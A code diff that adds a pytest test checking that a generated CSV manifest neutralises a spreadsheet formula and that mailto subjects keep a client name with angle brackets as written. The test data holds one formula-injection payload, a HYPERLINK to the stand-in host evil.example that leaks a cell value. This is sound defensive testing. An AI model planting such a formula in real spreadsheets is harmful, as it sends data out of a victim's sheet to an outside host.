@@ -229,3 +229,25 @@ def test_an_account_marked_done_shows_done_with_its_steps_ticked(project: Projec
     assert re.search(r"<input[^>]*checked[^>]*>\s*Remove user", html)
     calendar = icalendar.Calendar.from_ical(download(project, ".ics"))
     assert not [e for e in calendar.walk("VEVENT") if "Bank portal" in str(e["summary"])]
+
+
+def test_case_text_stays_text_in_spreadsheets_and_mail_subjects(project: Project) -> None:
+    """A title pasted from elsewhere is shown by a spreadsheet, never run as a formula; a
+    client's name reaches a mail subject as written, not as HTML."""
+    formula = '=HYPERLINK("https://evil.example/?leak="&E3,"Verify")'
+    case = FULL_CASE.replace("Complete Client s.r.o.", "Smith & Sons <Ltd>").replace(
+        "title: General ledger 2025", f"title: '{formula}'"
+    )
+    assert formula in case
+    project.write_case("complete", case, FILES)
+    result = project.run("build", "--today", "2026-12-01")
+    assert result.exit_code == 0, result.output
+    text = download(project, "-manifest.csv").decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["title"] == "'" + formula
+    subjects = [
+        unquote(parse_qs(urlparse(href.replace("&amp;", "&")).query)["subject"][0])
+        for href in re.findall(r'href="(mailto:[^"]*subject=[^"]*)"', page(project))
+    ]
+    named = [subject for subject in subjects if "Smith" in subject]
+    assert named and all("Smith & Sons <Ltd>" in subject for subject in named), subjects
